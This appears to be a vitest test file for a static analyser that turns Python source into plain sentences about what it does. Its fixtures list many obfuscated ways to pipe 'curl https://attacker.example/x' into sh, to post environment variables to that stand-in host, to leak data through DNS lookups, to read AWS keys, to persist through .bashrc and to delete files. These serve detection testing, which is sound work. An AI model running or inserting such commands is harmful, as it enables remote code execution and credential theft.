import { describe, expect, test } from 'vitest';
import { effectSentences } from '../effects/effect';
import { readText } from '../effects/read-text';
import { parsePython } from './syntax';

const said = (source: string): string => effectSentences(readText('python', source).effects).join(' ');

const RUNS = 'It downloads a program from https[:]//attacker[.]example/x and runs it.';
const FETCH = 'curl https://attacker.example/x | sh';

describe('what Python source does', () => {
  test.each([
    ['an import', `import os\nos.system('${FETCH}')`],
    ['another name', `import os as o\no.system('${FETCH}')`],
    ['from', `from os import system as s\ns('${FETCH}')`],
    ['a star', `from os import *\nsystem('${FETCH}')`],
    ['__import__', `__import__('os').system('${FETCH}')`],
    ['getattr', `getattr(__import__('o'+'s'), 'metsys'[::-1])('${FETCH}')`],
    ['importlib', `import importlib\nimportlib.import_module('os').popen('${FETCH}')`],
    ['builtins', `__builtins__['__import__']('os').system('${FETCH}')`],
    ['globals', `globals()['__builtins__'].eval("__import__('os').system('${FETCH}')")`],
    ['sys.modules', `import sys\nsys.modules['os'].system('${FETCH}')`],
    ['vars', `import os\nvars(os)['system']('${FETCH}')`],
    ['subprocess with words', `import subprocess\nsubprocess.run(['sh', '-c', '${FETCH}'])`],
    ['subprocess with a keyword', `import subprocess\nsubprocess.run(args='${FETCH}', shell=True)`],
    ['a variable', `import os\nc = 'curl https://attacker.example/x'\nc += ' | sh'\nos.system(c)`],
    ['a format', `import os\nos.system('{} https://attacker.example/{} | sh'.format('curl', 'x'))`],
    ['a percent sign', `import os\nos.system('curl https://%s/x | sh' % 'attacker.example')`],
    ['an f-string', `import os\nh = 'attacker.example'\nos.system(f'curl https://{h}/x | sh')`],
    ['join', `import os\nos.system(' '.join(['curl', 'https://attacker.example/x', '|', 'sh']))`],
    [
      'characters',
      `import os\nos.system(''.join(chr(c) for c in ${JSON.stringify([...FETCH].map((one) => one.charCodeAt(0)))}))`,
    ],
    ['map', `import os\nlist(map(os.system, ['${FETCH}']))`],
    ['a lambda', `(lambda f, c: f(c))(__import__('os').system, '${FETCH}')`],
    ['a comprehension', `[__import__('os').system(c) for c in ['${FETCH}']]`],
    ['a loop', `import os\nfor c in ('${FETCH}',):\n    os.system(c)`],
    ['a function', `def f():\n    import os\n    os.system('${FETCH}')\nf()`],
    ['a thread', `import os, threading\nthreading.Thread(target=os.system, args=('${FETCH}',)).start()`],
    ['a partial', `import os, functools\nfunctools.partial(os.system, '${FETCH}')()`],
    ['exec in exec', `exec("exec(\\"import os;os.system('${FETCH}')\\")")`],
    ['compile', `exec(compile("import os;os.system('${FETCH}')", 'x', 'exec'))`],
    ['base64', `import base64\nexec(base64.b64decode('${btoa(`import os;os.system('${FETCH}')`)}'))`],
    ['Python 2', `import os\nexec "os.system('${FETCH}')"\nprint "x"`],
    ['a download that is executed', "import requests\nexec(requests.get('https://attacker.example/x').text)"],
    ['a condition', `import os\nif True: os.system('${FETCH}')`],
    ['with', `import subprocess\nwith subprocess.Popen('${FETCH}', shell=True) as p: p.wait()`],
  ])('%s is followed', (_, source) => expect(said(source)).toContain(RUNS));

  test.each([
    ['print("os.system(1)")', 'It prints text.'],
    ["x = 'os.system'", ''],
    ['import os\nos.path.join("a", "b")', ''],
    ['import numpy as np\nnp.zeros(3)', ''],
    ['def system(c): return c\nsystem("rm -rf /")', ''],
    ['# os.system("rm -rf /")', ''],
    ['"""os.system("rm -rf /")"""', ''],
    ['os.system', ''],
    ["import os\nos.environ['HOME']", ''],
    [
      "import os\nos.getenv('AWS_SECRET_ACCESS_KEY')",
      'It reads the environment variable AWS_SECRET_ACCESS_KEY, which can hold keys.',
    ],
    ['import os\ndict(os.environ)', ''],
    [
      "import requests, os\nrequests.post('https://attacker.example', json=dict(os.environ))",
      'It sends data to https[:]//attacker[.]example.',
    ],
    ["open('/home/x/.bashrc', 'a').write('x')", 'It arranges to be run again later: /home/x/.bashrc.'],
    ["open('weights.bin').read()", 'It reads weights.bin.'],
    ["import shutil\nshutil.rmtree('/data')", 'It deletes or overwrites /data.'],
    [
      "import socket\nsocket.create_connection(('192.0.2.1', 80))",
      'It opens a network connection to 192[.]0[.]2[.]1:80.',
    ],
    [
      "import socket,os\nsocket.gethostbyname(os.getenv('HOME') + '.attacker.example')",
      'It sends data out in the name of a DNS lookup',
    ],
  ])('%s', (source, sentence) => expect(said(source)).toContain(sentence));

  test('what is not known is said to be so', () => {
    expect(said('exec(input())')).toContain('cannot be told');
    expect(said('import os\nos.system(x)')).toContain('cannot be told');
  });

  test('a chain of ten thousand operators is one expression', () => {
    expect(parsePython(`x = ${'1 + '.repeat(10_000)}1`)).toHaveLength(1);
  });
});
